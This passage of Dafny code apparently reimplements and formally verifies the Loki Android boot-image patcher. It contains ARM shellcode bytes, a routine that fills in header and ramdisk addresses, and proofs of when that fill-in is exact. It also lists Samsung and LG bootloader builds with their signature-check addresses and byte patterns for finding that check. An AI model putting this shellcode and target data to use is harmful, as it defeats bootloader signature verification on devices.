/** The Loki patcher: it relocates the ramdisk address and splices patched bootloader code into the image. */
module LokiPatcher {
  import opened Bytes
  import opened Intermediate
  import opened AndroidFormat

  const LOKI_MAGIC: bytes := [0x4c, 0x4f, 0x4b, 0x49] // "LOKI"

  // Offsets of the Loki header, which lies in the header page
  const LOKI_HEADER := 0x400
  const LOKI_RECOVERY := 0x404
  const LOKI_BUILD := 0x408
  const LOKI_KERNEL_SIZE := 0x488
  const LOKI_RAMDISK_SIZE := 0x48c
  const LOKI_RAMDISK_ADDR := 0x490
  const LOKI_HEADER_END := 0x494
  const BUILD_SIZE := 128

  /** The code before the two words that get filled in. */
  const CODE0: bytes := [0xfe, 0xb5, 0x0d, 0x4d, 0xd5, 0xf8, 0x88, 0x04, 0xab, 0x68, 0x98, 0x42, 0x12, 0xd0]
  const CODE1: bytes := [0xd5, 0xf8, 0x90, 0x64, 0x0a, 0x4c, 0xd5, 0xf8, 0x8c, 0x74, 0x07, 0xf5, 0x80, 0x57]
  const CODE2: bytes := [0x0f, 0xce, 0x0f, 0xc4, 0x10, 0x3f, 0xfb, 0xdc, 0xd5, 0xf8, 0x88, 0x04, 0x04, 0x49]
  const CODE3: bytes := [0xd5, 0xf8, 0x8c, 0x24, 0xa8, 0x60, 0x69, 0x61, 0x2a, 0x61, 0x00, 0x20, 0xfe, 0xbd]
  const PREFIX_SIZE := 56
  const SHELLCODE_SIZE := 65

  function ShellcodePrefix(): (r: bytes)
    ensures |r| == PREFIX_SIZE
  {
    CODE0 + CODE1 + CODE2 + CODE3
  }

  /** The shellcode with its two words, which starts out as 0xffffffff and 0xeeeeeeee, and the closing NUL. */
  function Shellcode(header: u32, ramdisk: u32): (r: bytes)
    ensures |r| == SHELLCODE_SIZE && r[..PREFIX_SIZE] == ShellcodePrefix()
  {
    ShellcodePrefix() + U32Bytes(header) + U32Bytes(ramdisk) + [0]
  }

  const HEADER_MARK := 0xffff_ffff
  const RAMDISK_MARK := 0xeeee_eeee

  // ---------------------------------------------------------------------------
  // Filling in the shellcode
  // ---------------------------------------------------------------------------

  datatype Scan = Scan(patch: bytes, foundHeader: bool, foundRamdisk: bool)

  /** One iteration of the scan: both tests look at the word at i, the second after the first has written. */
  function ScanStep(s: Scan, i: nat, header: u32, ramdisk: u32): (r: Scan)
    requires i + 4 <= |s.patch|
    ensures |r.patch| == |s.patch|
  {
    var a := if U32At(s.patch, i) == HEADER_MARK
             then s.(patch := PutU32(s.patch, i, header), foundHeader := true) else s;
    if U32At(a.patch, i) == RAMDISK_MARK
    then a.(patch := PutU32(a.patch, i, ramdisk), foundRamdisk := true) else a
  }

  /** The iterations from i on; the last one looks at the word four bytes before the closing NUL. */
  function ScanFrom(s: Scan, i: nat, header: u32, ramdisk: u32): (r: Scan)
    requires |s.patch| == SHELLCODE_SIZE && i <= SHELLCODE_SIZE - 4
    ensures |r.patch| == SHELLCODE_SIZE
    decreases SHELLCODE_SIZE - i, header, ramdisk
  {
    if i == SHELLCODE_SIZE - 4 then s
    else ScanFrom(ScanStep(s, i, header, ramdisk), i + 1, header, ramdisk)
  }

  function Filled(header: u32, ramdisk: u32): (r: Scan)
    ensures |r.patch| == SHELLCODE_SIZE
  {
    ScanFrom(Scan(Shellcode(HEADER_MARK, RAMDISK_MARK), false, false), 0, header, ramdisk)
  }

  method PatchShellcode(header: u32, ramdisk: u32, patch: array<byte>) returns (ok: bool)
    requires patch.Length == SHELLCODE_SIZE
    modifies patch
    ensures var r := ScanFrom(Scan(old(patch[..]), false, false), 0, header, ramdisk);
            patch[..] == r.patch && ok == (r.foundHeader && r.foundRamdisk)
  {
    hide PutU32, U32At;
    var foundHeader, foundRamdisk := false, false;
    ghost var result := ScanFrom(Scan(patch[..], false, false), 0, header, ramdisk);
    for i := 0 to SHELLCODE_SIZE - 4
      invariant ScanFrom(Scan(patch[..], foundHeader, foundRamdisk), i, header, ramdisk) == result
    {
      var found := ReplaceWord(patch, i, HEADER_MARK, header);
      foundHeader := foundHeader || found;
      found := ReplaceWord(patch, i, RAMDISK_MARK, ramdisk);
      foundRamdisk := foundRamdisk || found;
    }
    ok := foundHeader && foundRamdisk;
  }

  /** if (*ptr == mark) *ptr = x, for the word at the given offset. */
  method ReplaceWord(a: array<byte>, at: nat, mark: u32, x: u32) returns (found: bool)
    requires at + 4 <= a.Length
    modifies a
    ensures found == (U32At(old(a[..]), at) == mark)
    ensures a[..] == if found then PutU32(old(a[..]), at, x) else old(a[..])
  {
    found := U32At(a[..], at) == mark;
    if found {
      StoreU32(a, at, x);
    }
  }

  /** *(uint32_t *) &a[at] = x */
  method StoreU32(a: array<byte>, at: nat, x: u32)
    requires at + 4 <= a.Length
    modifies a
    ensures a[..] == PutU32(old(a[..]), at, x)
  {
    var b := U32Bytes(x);
    a[at] := b[0];
    a[at + 1] := b[1];
    a[at + 2] := b[2];
    a[at + 3] := b[3];
  }

  /** The bytes of a word that consists of one repeated byte. */
  lemma RepeatedWord(s: bytes, at: nat, b: byte)
    requires at + 4 <= |s|
    ensures U32At(s, at) == b as int * 0x0101_0101 <==> s[at] == b && s[at + 1] == b && s[at + 2] == b && s[at + 3] == b
  {
    DigitsOfWord(s[at], s[at + 1], s[at + 2], s[at + 3]);
    DigitsOfWord(b, b, b, b);
  }

  lemma NoMarkByteInPrefix(b: byte)
    requires b in ShellcodePrefix()
    ensures b != 0xff && b != 0xee
  {
    assert b in CODE0 || b in CODE1 || b in CODE2 || b in CODE3;
  }

  lemma NoMarkInPrefix(s: Scan, i: nat, header: u32, ramdisk: u32)
    requires |s.patch| == SHELLCODE_SIZE && s.patch[..PREFIX_SIZE] == ShellcodePrefix() && i < PREFIX_SIZE
    ensures ScanStep(s, i, header, ramdisk) == s
  {
    assert s.patch[i] == ShellcodePrefix()[i];
    NoMarkByteInPrefix(ShellcodePrefix()[i]);
    RepeatedWord(s.patch, i, 0xff);
    RepeatedWord(s.patch, i, 0xee);
  }

  lemma {:induction false} ScanPassesPrefix(s: Scan, i: nat, header: u32, ramdisk: u32)
    requires |s.patch| == SHELLCODE_SIZE && s.patch[..PREFIX_SIZE] == ShellcodePrefix() && i <= PREFIX_SIZE
    ensures ScanFrom(s, i, header, ramdisk) == ScanFrom(s, PREFIX_SIZE, header, ramdisk)
    decreases PREFIX_SIZE - i
  {
    if i < PREFIX_SIZE {
      NoMarkInPrefix(s, i, header, ramdisk);
      ScanPassesPrefix(s, i + 1, header, ramdisk);
    }
  }

  /** The five iterations behind the code prefix. */
  lemma ScanTail(s: Scan, t1: Scan, t2: Scan, t3: Scan, t4: Scan, t5: Scan, header: u32, ramdisk: u32)
    requires |s.patch| == SHELLCODE_SIZE && t1 == ScanStep(s, 56, header, ramdisk)
    requires |t1.patch| == SHELLCODE_SIZE && t2 == ScanStep(t1, 57, header, ramdisk)
    requires |t2.patch| == SHELLCODE_SIZE && t3 == ScanStep(t2, 58, header, ramdisk)
    requires |t3.patch| == SHELLCODE_SIZE && t4 == ScanStep(t3, 59, header, ramdisk)
    requires |t4.patch| == SHELLCODE_SIZE && t5 == ScanStep(t4, 60, header, ramdisk)
    ensures ScanFrom(s, 56, header, ramdisk) == t5
    ensures ScanFrom(t1, 57, header, ramdisk) == t5
    ensures ScanFrom(t2, 58, header, ramdisk) == t5
    ensures ScanFrom(t3, 59, header, ramdisk) == t5
    ensures ScanFrom(t4, 60, header, ramdisk) == t5
  {
    hide ScanStep;
    assert ScanFrom(s, 56, header, ramdisk) == ScanFrom(t1, 57, header, ramdisk);
    assert ScanFrom(t1, 57, header, ramdisk) == ScanFrom(t2, 58, header, ramdisk);
    assert ScanFrom(t2, 58, header, ramdisk) == ScanFrom(t3, 59, header, ramdisk);
    assert ScanFrom(t3, 59, header, ramdisk) == ScanFrom(t4, 60, header, ramdisk);
    assert ScanFrom(t4, 60, header, ramdisk) == ScanFrom(t5, 61, header, ramdisk);
  }

  /** One iteration, by what it finds at i. */
  lemma StepIdle(s: Scan, i: nat, header: u32, ramdisk: u32)
    requires i + 4 <= |s.patch|
    requires s.patch[i] != 0xff || s.patch[i + 3] != 0xff
    requires s.patch[i] != 0xee || s.patch[i + 1] != 0xee || s.patch[i + 2] != 0xee || s.patch[i + 3] != 0xee
    ensures ScanStep(s, i, header, ramdisk) == s
  {
    hide U32At;
    RepeatedWord(s.patch, i, 0xff);
    RepeatedWord(s.patch, i, 0xee);
  }

  lemma StepHeader(s: Scan, i: nat, header: u32, ramdisk: u32)
    requires i + 4 <= |s.patch| && header != RAMDISK_MARK
    requires s.patch[i] == s.patch[i + 1] == s.patch[i + 2] == s.patch[i + 3] == 0xff
    ensures ScanStep(s, i, header, ramdisk) == Scan(PutU32(s.patch, i, header), true, s.foundRamdisk)
  {
    hide U32At, PutU32;
    RepeatedWord(s.patch, i, 0xff);
    ReadBackWord(s.patch, i, header);
  }

  lemma StepRamdisk(s: Scan, i: nat, header: u32, ramdisk: u32)
    requires i + 4 <= |s.patch|
    requires s.patch[i] == s.patch[i + 1] == s.patch[i + 2] == s.patch[i + 3] == 0xee
    ensures ScanStep(s, i, header, ramdisk) == Scan(PutU32(s.patch, i, ramdisk), s.foundHeader, true)
  {
    hide U32At, PutU32;
    RepeatedWord(s.patch, i, 0xff);
    RepeatedWord(s.patch, i, 0xee);
  }

  /** The header word is written and, being the mark itself, replaced at once. */
  lemma StepBoth(s: Scan, i: nat, ramdisk: u32)
    requires i + 4 <= |s.patch|
    requires s.patch[i] == s.patch[i + 1] == s.patch[i + 2] == s.patch[i + 3] == 0xff
    ensures ScanStep(s, i, RAMDISK_MARK, ramdisk) == Scan(PutU32(s.patch, i, ramdisk), true, true)
  {
    hide U32At;
    RepeatedWord(s.patch, i, 0xff);
    ReadBackWord(s.patch, i, RAMDISK_MARK);
    var a := PutU32(s.patch, i, RAMDISK_MARK);
    assert PutU32(a, i, ramdisk) == PutU32(s.patch, i, ramdisk);
  }

  lemma MarkBytes(x: u32)
    ensures U32Bytes(HEADER_MARK) == [0xff, 0xff, 0xff, 0xff] && U32Bytes(RAMDISK_MARK) == [0xee, 0xee, 0xee, 0xee]
    ensures U32Bytes(x)[3] == x / 0x100_0000
    ensures x == RAMDISK_MARK <==> forall k :: 0 <= k < 4 ==> U32Bytes(x)[k] == 0xee
  {
    RepeatedWord(U32Bytes(x), 0, 0xee);
    U32RoundTrip(x);
  }

  /** The shellcode byte by byte behind its prefix. */
  lemma ShellcodeBytes(header: u32, ramdisk: u32)
    ensures var e := Shellcode(header, ramdisk);
            var h, d := U32Bytes(header), U32Bytes(ramdisk);
            && e[56] == h[0] && e[57] == h[1] && e[58] == h[2] && e[59] == h[3]
            && e[60] == d[0] && e[61] == d[1] && e[62] == d[2] && e[63] == d[3] && e[64] == 0
            && e[60..64] == d
    ensures PutU32(Shellcode(HEADER_MARK, ramdisk), 56, header) == Shellcode(header, ramdisk)
    ensures PutU32(Shellcode(header, RAMDISK_MARK), 60, ramdisk) == Shellcode(header, ramdisk)
  {
    hide U32Bytes, ShellcodePrefix;
  }

  /** A header word whose top byte is not 0xee is never mistaken for the ramdisk mark. */
  lemma FilledWhenDistinct(header: u32, ramdisk: u32)
    requires header / 0x100_0000 != 0xee
    ensures Filled(header, ramdisk) == Scan(Shellcode(header, ramdisk), true, true)
  {
    hide ScanStep, ScanFrom, Shellcode, PutU32, U32Bytes;
    var s := Scan(Shellcode(HEADER_MARK, RAMDISK_MARK), false, false);
    ScanPassesPrefix(s, 0, header, ramdisk);
    var t1 := ScanStep(s, 56, header, ramdisk);
    var t2 := ScanStep(t1, 57, header, ramdisk);
    var t3 := ScanStep(t2, 58, header, ramdisk);
    var t4 := ScanStep(t3, 59, header, ramdisk);
    var t5 := ScanStep(t4, 60, header, ramdisk);
    ScanTail(s, t1, t2, t3, t4, t5, header, ramdisk);
    MarkBytes(header);
    ShellcodeBytes(HEADER_MARK, RAMDISK_MARK);
    ShellcodeBytes(header, RAMDISK_MARK);
    ShellcodeBytes(header, ramdisk);
    StepHeader(s, 56, header, ramdisk);
    StepIdle(t1, 57, header, ramdisk);
    StepIdle(t2, 58, header, ramdisk);
    StepIdle(t3, 59, header, ramdisk);
    StepRamdisk(t4, 60, header, ramdisk);
  }

  lemma {:induction false} ScanKeepsEarlier(s: Scan, i: nat, header: u32, ramdisk: u32)
    requires |s.patch| == SHELLCODE_SIZE && i <= SHELLCODE_SIZE - 4
    ensures ScanFrom(s, i, header, ramdisk).patch[..i] == s.patch[..i]
    decreases SHELLCODE_SIZE - i, header, ramdisk
  {
    if i < SHELLCODE_SIZE - 4 {
      var t := ScanStep(s, i, header, ramdisk);
      assert t.patch[..i] == s.patch[..i];
      ScanKeepsEarlier(t, i + 1, header, ramdisk);
      var r := ScanFrom(t, i + 1, header, ramdisk);
      assert r.patch[..i] == r.patch[..i + 1][..i] == t.patch[..i + 1][..i] == t.patch[..i];
    }
  }

  /** A byte behind an iteration that changes nothing is final. */
  lemma SettledByte(s: Scan, i: nat, header: u32, ramdisk: u32)
    requires |s.patch| == SHELLCODE_SIZE && 4 <= i < SHELLCODE_SIZE - 4
    requires s.patch[i] != 0xff || s.patch[i + 3] != 0xff
    requires (s.patch[i] != 0xee || s.patch[i + 1] != 0xee || s.patch[i + 2] != 0xee || s.patch[i + 3] != 0xee)
    ensures ScanFrom(s, i, header, ramdisk) == ScanFrom(s, i + 1, header, ramdisk)
    ensures ScanFrom(s, i, header, ramdisk).patch[i] == s.patch[i]
  {
    StepIdle(s, i, header, ramdisk);
    ScanKeepsEarlier(s, i + 1, header, ramdisk);
    var r := ScanFrom(s, i + 1, header, ramdisk);
    assert r.patch[i] == r.patch[..i + 1][i] == s.patch[..i + 1][i];
  }

  /** Once the ramdisk word has been written before offset 60, one of the bytes up to 63 stays wrong. */
  lemma EarlyWrite(t: Scan, j: nat, header: u32, ramdisk: u32, e: bytes)
    requires 56 <= j < 60 && |t.patch| == SHELLCODE_SIZE && |e| == SHELLCODE_SIZE && ramdisk != RAMDISK_MARK
    requires t.patch[j..j + 4] == U32Bytes(ramdisk) && forall k :: j + 4 <= k < 64 ==> t.patch[k] == 0xee
    requires forall k :: j <= k < 60 ==> e[k] == 0xee
    requires e[60..64] == U32Bytes(ramdisk)
    ensures ScanFrom(t, j + 1, header, ramdisk).patch != e
  {
    hide ScanStep, U32Bytes;
    var d := U32Bytes(ramdisk);
    assert d[0] != 0xee || d[1] != 0xee || d[2] != 0xee || d[3] != 0xee by {
      RepeatedWord(d, 0, 0xee);
      U32RoundTrip(ramdisk);
    }
    assert e[60] == d[0] && e[61] == d[1] && e[62] == d[2] && e[63] == d[3] by {
      assert forall k :: 0 <= k < 4 ==> e[60 + k] == e[60..64][k];
    }
    assert t.patch[j] == d[0] && t.patch[j + 1] == d[1] && t.patch[j + 2] == d[2] && t.patch[j + 3] == d[3] by {
      var w := t.patch[j..j + 4];
      assert w[0] == t.patch[j] && w[1] == t.patch[j + 1] && w[2] == t.patch[j + 2] && w[3] == t.patch[j + 3];
    }
    var r := ScanFrom(t, j + 1, header, ramdisk);
    if r.patch == e {
      ScanKeepsEarlier(t, j + 1, header, ramdisk);
      assert r.patch[j] == r.patch[..j + 1][j] == t.patch[..j + 1][j];
      assert d[0] == 0xee;
      SettledByte(t, j + 1, header, ramdisk);
      assert d[1] == 0xee;
      if j + 2 < 61 {
        SettledByte(t, j + 2, header, ramdisk);
      }
      assert d[2] == 0xee;
      if j + 3 < 61 {
        SettledByte(t, j + 3, header, ramdisk);
      }
    }
  }

  /** When the ramdisk word is the mark itself, a match replaces it by itself. */
  lemma StepKeepsMarks(s: Scan, i: nat, header: u32)
    requires i + 4 <= |s.patch| && s.patch[i + 3] == 0xee
    ensures ScanStep(s, i, header, RAMDISK_MARK).patch == s.patch
  {
    hide ScanStep, U32Bytes;
    MarkBytes(RAMDISK_MARK);
    if s.patch[i] == s.patch[i + 1] == s.patch[i + 2] == 0xee {
      StepRamdisk(s, i, header, RAMDISK_MARK);
      assert PutU32(s.patch, i, RAMDISK_MARK) == s.patch;
    } else {
      StepIdle(s, i, header, RAMDISK_MARK);
    }
  }

  lemma FilledByMark(header: u32)
    requires header / 0x100_0000 == 0xee
    ensures Filled(header, RAMDISK_MARK).patch == Shellcode(header, RAMDISK_MARK)
  {
    hide ScanStep, ScanFrom, Shellcode, PutU32, U32Bytes;
    var s := Scan(Shellcode(HEADER_MARK, RAMDISK_MARK), false, false);
    ScanPassesPrefix(s, 0, header, RAMDISK_MARK);
    var t1 := ScanStep(s, 56, header, RAMDISK_MARK);
    var t2 := ScanStep(t1, 57, header, RAMDISK_MARK);
    var t3 := ScanStep(t2, 58, header, RAMDISK_MARK);
    var t4 := ScanStep(t3, 59, header, RAMDISK_MARK);
    var t5 := ScanStep(t4, 60, header, RAMDISK_MARK);
    ScanTail(s, t1, t2, t3, t4, t5, header, RAMDISK_MARK);
    MarkBytes(header);
    ShellcodeBytes(HEADER_MARK, RAMDISK_MARK);
    ShellcodeBytes(header, RAMDISK_MARK);
    if header == RAMDISK_MARK {
      StepBoth(s, 56, RAMDISK_MARK);
    } else {
      StepHeader(s, 56, header, RAMDISK_MARK);
    }
    StepKeepsMarks(t1, 57, header);
    StepKeepsMarks(t2, 58, header);
    StepKeepsMarks(t3, 59, header);
    StepKeepsMarks(t4, 60, header);
  }

  lemma EarlyMark(s: Scan, j: nat, header: u32, ramdisk: u32, e: bytes)
    requires 56 <= j < 60 && |s.patch| == SHELLCODE_SIZE && |e| == SHELLCODE_SIZE && ramdisk != RAMDISK_MARK
    requires forall k :: j <= k < 64 ==> s.patch[k] == 0xee
    requires forall k :: j <= k < 60 ==> e[k] == 0xee
    requires e[60..64] == U32Bytes(ramdisk)
    ensures ScanFrom(s, j, header, ramdisk).patch != e
  {
    hide ScanStep, U32Bytes;
    StepRamdisk(s, j, header, ramdisk);
    EarlyWrite(ScanStep(s, j, header, ramdisk), j, header, ramdisk, e);
  }

  /** With a top byte of 0xee the ramdisk word lands too early. */
  lemma FilledTooEarly(header: u32, ramdisk: u32)
    requires header / 0x100_0000 == 0xee && ramdisk != RAMDISK_MARK
    ensures Filled(header, ramdisk).patch != Shellcode(header, ramdisk)
  {
    hide ScanStep, ScanFrom, Shellcode, U32Bytes, PutU32;
    var s := Scan(Shellcode(HEADER_MARK, RAMDISK_MARK), false, false);
    ScanPassesPrefix(s, 0, header, ramdisk);
    var t1 := ScanStep(s, 56, header, ramdisk);
    var t2 := ScanStep(t1, 57, header, ramdisk);
    var t3 := ScanStep(t2, 58, header, ramdisk);
    var t4 := ScanStep(t3, 59, header, ramdisk);
    var t5 := ScanStep(t4, 60, header, ramdisk);
    ScanTail(s, t1, t2, t3, t4, t5, header, ramdisk);
    MarkBytes(header);
    ShellcodeBytes(HEADER_MARK, RAMDISK_MARK);
    ShellcodeBytes(header, ramdisk);
    if header == RAMDISK_MARK {
      // the same iteration writes the header and then takes it for the mark
      StepBoth(s, 56, ramdisk);
      assert t1.patch[56..60] == U32Bytes(ramdisk) && forall k :: 60 <= k < 64 ==> t1.patch[k] == 0xee by {
        PutU32Bytes(s.patch, 56, ramdisk);
      }
      EarlyWrite(t1, 56, header, ramdisk, Shellcode(header, ramdisk));
    } else {
      StepHeader(s, 56, header, ramdisk);
      ShellcodeBytes(header, RAMDISK_MARK);
      LateMark(t1, t2, t3, header, ramdisk);
    }
  }

  lemma PutU32Bytes(s: bytes, at: nat, x: u32)
    requires at + 4 <= |s|
    ensures PutU32(s, at, x)[at..at + 4] == U32Bytes(x)
    ensures forall k :: at + 4 <= k < |s| ==> PutU32(s, at, x)[k] == s[k]
  {
  }

  /** The mark is found at 57, 58 or 59, depending on how many bytes of the header word are 0xee. */
  lemma LateMark(t1: Scan, t2: Scan, t3: Scan, header: u32, ramdisk: u32)
    requires header / 0x100_0000 == 0xee && header != RAMDISK_MARK && ramdisk != RAMDISK_MARK
    requires t1.patch == Shellcode(header, RAMDISK_MARK)
    requires t2 == ScanStep(t1, 57, header, ramdisk) && t3 == ScanStep(t2, 58, header, ramdisk)
    requires ScanFrom(t1, 57, header, ramdisk) == ScanFrom(t2, 58, header, ramdisk) == ScanFrom(t3, 59, header, ramdisk)
    ensures ScanFrom(t1, 57, header, ramdisk).patch != Shellcode(header, ramdisk)
  {
    hide ScanStep, ScanFrom, Shellcode, U32Bytes;
    var h := U32Bytes(header);
    var e := Shellcode(header, ramdisk);
    MarkBytes(header);
    ShellcodeBytes(header, RAMDISK_MARK);
    ShellcodeBytes(header, ramdisk);
    if h[1] == 0xee && h[2] == 0xee {
      EarlyMark(t1, 57, header, ramdisk, e);
    } else {
      StepIdle(t1, 57, header, ramdisk);
      if h[2] == 0xee {
        EarlyMark(t2, 58, header, ramdisk, e);
      } else {
        StepIdle(t2, 58, header, ramdisk);
        EarlyMark(t3, 59, header, ramdisk, e);
      }
    }
  }

  /** The two words are filled in exactly where they belong if and only if they cannot be confused. */
  lemma FilledExactly(header: u32, ramdisk: u32)
    ensures Filled(header, ramdisk).patch == Shellcode(header, ramdisk)
            <==> header / 0x100_0000 != 0xee || ramdisk == RAMDISK_MARK
  {
    if header / 0x100_0000 != 0xee {
      FilledWhenDistinct(header, ramdisk);
    } else if ramdisk == RAMDISK_MARK {
      FilledByMark(header);
    } else {
      FilledTooEarly(header, ramdisk);
    }
  }

  // ---------------------------------------------------------------------------
  // Known bootloaders
  // ---------------------------------------------------------------------------

  datatype LokiTarget = LokiTarget(build: string, checkSigs: u32, hdr: u32, lg: bool)

  /** The bootloaders the patch is known for, by the address of their signature check. */
  function Targets(): seq<LokiTarget> {
    Targets0() + Targets1() + Targets2() + Targets3()
  }

  function Targets0(): seq<LokiTarget> {
    [
      LokiTarget("JDQ39.I337UCUAMDB or JDQ39.I337UCUAMDL", 0x88e0ff98, 0x88f3bafc, false), // AT&T Samsung Galaxy S4
      LokiTarget("JDQ39.I545VRUAMDK", 0x88e0fe98, 0x88f372fc, false), // Verizon Samsung Galaxy S4
      LokiTarget("JDQ39.SC04EOMUAMDI", 0x88e0fcd8, 0x88f0b2fc, false), // DoCoMo Samsung Galaxy S4
      LokiTarget("IMM76D.I200VRALH2", 0x88e0f5c0, 0x88ed32e0, false), // Verizon Samsung Galaxy Stellar
      LokiTarget("JZO54K.I200VRBMA1", 0x88e101ac, 0x88ed72e0, false), // Verizon Samsung Galaxy Stellar
      LokiTarget("D52010c", 0x88f1079c, 0x88f64508, true), // T-Mobile LG Optimus F3Q
      LokiTarget("L01E20b", 0x88f10e48, 0x88f54418, true), // DoCoMo LG Optimus G
      LokiTarget("L04E10f", 0x88f1102c, 0x88f54418, true), // DoCoMo LG Optimus G Pro
      LokiTarget("E98010g or E98810b", 0x88f11084, 0x88f54418, true), // AT&T or HK LG Optimus G Pro
      LokiTarget("F240K10o, F240L10v, or F240S10w", 0x88f110b8, 0x88f54418, true), // KT, LGU, or SKT LG Optimus G Pro
      LokiTarget("F160K20g, F160L20f, F160LV20d, or F160S20f", 0x88f10864, 0x88f802b8, true), // KT, LGU, or SKT LG Optimus LTE 2
      LokiTarget("MS87010a_05", 0x88f0e634, 0x88f68194, true)  // MetroPCS LG Spirit
    ]
  }

  function Targets1(): seq<LokiTarget> {
    [
      LokiTarget("MS77010f_01", 0x88f1015c, 0x88f58194, true), // MetroPCS LG Motion
      LokiTarget("VS87010B_12", 0x88f10adc, 0x88f702bc, true), // Verizon LG Lucid 2
      LokiTarget("VS93021B_05", 0x88f10c10, 0x88f84514, true), // Verizon LG Spectrum 2
      LokiTarget("LG870ZV4_06", 0x88f11714, 0x88f842ac, true), // Boost Mobile LG Optimus F7
      LokiTarget("US78011a", 0x88f112c8, 0x88f84518, true), // US Cellular LG Optimus F7
      LokiTarget("LG870ZV5_02", 0x88f11710, 0x88f842a8, true), // Sprint LG Optimus F7
      LokiTarget("LS720ZV5", 0x88f108f0, 0x88f854f4, true), // Virgin Mobile LG Optimus F3
      LokiTarget("LS720ZV5", 0x88f10264, 0x88f64508, true), // T-Mobile and MetroPCS LG Optimus F3
      LokiTarget("D80010d", 0xf8132ac, 0xf906440, true), // AT&T LG G2
      LokiTarget("VS98010b", 0xf8131f0, 0xf906440, true), // Verizon LG G2
      LokiTarget("D80010o", 0xf813428, 0xf904400, true), // AT&T LG G2
      LokiTarget("VS98012b", 0xf813210, 0xf906440, true)  // Verizon LG G2
    ]
  }

  function Targets2(): seq<LokiTarget> {
    [
      LokiTarget("D80110c or D803", 0xf813294, 0xf906440, true), // T-Mobile or Canada LG G2
      LokiTarget("D802b", 0xf813a70, 0xf9041c0, true), // International LG G2
      LokiTarget("LS980ZV7", 0xf813460, 0xf9041c0, true), // Sprint LG G2
      LokiTarget("F320K, F320L", 0xf81346c, 0xf8de440, true), // KT or LGU LG G2
      LokiTarget("F320S", 0xf8132e4, 0xf8ee440, true), // SKT LG G2
      LokiTarget("F320S11c", 0xf813470, 0xf8de440, true), // SKT LG G2
      LokiTarget("L-01F", 0xf813538, 0xf8d41c0, true), // DoCoMo LG G2
      LokiTarget("F340K", 0xf8124a4, 0xf8b6440, true), // KT LG G Flex
      LokiTarget("LGL2310d", 0xf81261c, 0xf8b41c0, true), // KDDI LG G Flex
      LokiTarget("P87510e", 0x88f10a9c, 0x88f702b8, true), // International LG Optimus F5
      LokiTarget("F260S10l", 0x88f11398, 0x88f8451c, true), // SKT LG Optimus LTE 3
      LokiTarget("V50010a", 0x88f10814, 0x88f801b8, true)  // International LG G Pad 8.3
    ]
  }

  function Targets3(): seq<LokiTarget> {
    [
      LokiTarget("V50010c or V50010e", 0x88f108bc, 0x88f801b8, true), // International LG G Pad 8.3
      LokiTarget("VK81010c", 0x88f11080, 0x88fd81b8, true), // Verizon LG G Pad 8.3
      LokiTarget("D60510a", 0x88f10d98, 0x88f84aa4, true), // International LG Optimus L9 II
      LokiTarget("MS50010e", 0x88f10260, 0x88f70508, true), // MetroPCS LG Optimus F6
      LokiTarget("D50510a", 0x88f10284, 0x88f70aa4, true), // Open EU LG Optimus F6
      LokiTarget("LGL22", 0xf813458, 0xf8d41c0, true), // KDDI LG Isai
      LokiTarget("LGL21", 0x88f10218, 0x88f50198, true), // KDDI LG
      LokiTarget("F220K", 0x88f11034, 0x88f54418, true), // KT LG Optimus GK
      LokiTarget("F300L", 0xf813170, 0xf8d2440, true), // International LG Vu 3
      LokiTarget("LS840ZVK", 0x4010fe18, 0x40194198, true), // Sprint LG Viper
      LokiTarget("D95510a", 0xf812490, 0xf8c2440, true), // International LG G Flex
      LokiTarget("LS860ZV7", 0x88f102b4, 0x88f6c194, true)  // Sprint LG Mach
    ]
  }

  /** The first table entry for a signature check at this address. */
  function FindTarget(targets: seq<LokiTarget>, checkSigs: u32): (r: Option<LokiTarget>)
    ensures r.Some? ==> r.value in targets && r.value.checkSigs == checkSigs
    ensures r.None? ==> forall t | t in targets :: t.checkSigs != checkSigs
  {
    if targets == [] then None
    else if targets[0].checkSigs == checkSigs then Some(targets[0])
    else FindTarget(targets[1..], checkSigs)
  }

  const PATTERN1: bytes := [0xf0, 0xb5, 0x8f, 0xb0, 0x06, 0x46, 0xf0, 0xf7]
  const PATTERN2: bytes := [0xf0, 0xb5, 0x8f, 0xb0, 0x07, 0x46, 0xf0, 0xf7]
  const PATTERN3: bytes := [0x2d, 0xe9, 0xf0, 0x41, 0x86, 0xb0, 0xf1, 0xf7]
  const PATTERN4: bytes := [0x2d, 0xe9, 0xf0, 0x4f, 0xad, 0xf5, 0xc6, 0x6d]
  const PATTERN5: bytes := [0x2d, 0xe9, 0xf0, 0x4f, 0xad, 0xf5, 0x21, 0x7d]
  const PATTERN6: bytes := [0x2d, 0xe9, 0xf0, 0x4f, 0xf3, 0xb0, 0x05, 0x46]

  predicate FirstPassMatch(aboot: bytes, i: nat)
    requires i + 8 <= |aboot|
  {
    || MatchesAt(aboot, i, PATTERN1) || MatchesAt(aboot, i, PATTERN2) || MatchesAt(aboot, i, PATTERN3)
    || MatchesAt(aboot, i, PATTERN4) || MatchesAt(aboot, i, PATTERN5)
  }

  function FirstPass(aboot: bytes, from: nat, until: nat): (r: Option<nat>)
    requires from <= until && until + 8 <= |aboot|
    ensures r.Some? ==> from <= r.value < until && FirstPassMatch(aboot, r.value)
    ensures forall k :: from <= k < (if r.Some? then r.value else until) ==> !FirstPassMatch(aboot, k)
    decreases until - from
  {
    if from == until then None
    else if FirstPassMatch(aboot, from) then Some(from)
    else FirstPass(aboot, from + 1, until)
  }

  /** The load address of the first aboot byte. */
  function AbootBase(aboot: bytes): u32
    requires |aboot| >= 16
  {
    Wrap32(U32At(aboot, 12) - 0x28)
  }

  /** The address of a match, 0 standing for none. */
  function AddressOf(match_: Option<nat>, base: u32): u32 {
    match match_
    case None => 0
    case Some(i) => Wrap32(i + base)
  }

  /** The signature check: the first five patterns win over the sixth, wherever they occur. */
  function FindCheckSigs(aboot: bytes): u32
    requires |aboot| >= 0x1000
  {
    var target := AddressOf(FirstPass(aboot, 0, |aboot| - 0x1000), AbootBase(aboot));
    if target != 0 then target
    else AddressOf(FindFirst(aboot, PATTERN6, 0, |aboot| - 0x1000), AbootBase(aboot))
  }

  // --- Which address the search yields ----------------------------------------------

  /** The eight bytes at i are one of the five patterns that are looked for first. */
  predicate IsFirstSig(aboot: bytes, i: nat)
    requires i + 8 <= |aboot|
  {
    aboot[i..i + 8] in {
      [0xf0, 0xb5, 0x8f, 0xb0, 0x06, 0x46, 0xf0, 0xf7],
      [0xf0, 0xb5, 0x8f, 0xb0, 0x07, 0x46, 0xf0, 0xf7],
      [0x2d, 0xe9, 0xf0, 0x41, 0x86, 0xb0, 0xf1, 0xf7],
      [0x2d, 0xe9, 0xf0, 0x4f, 0xad, 0xf5, 0xc6, 0x6d],
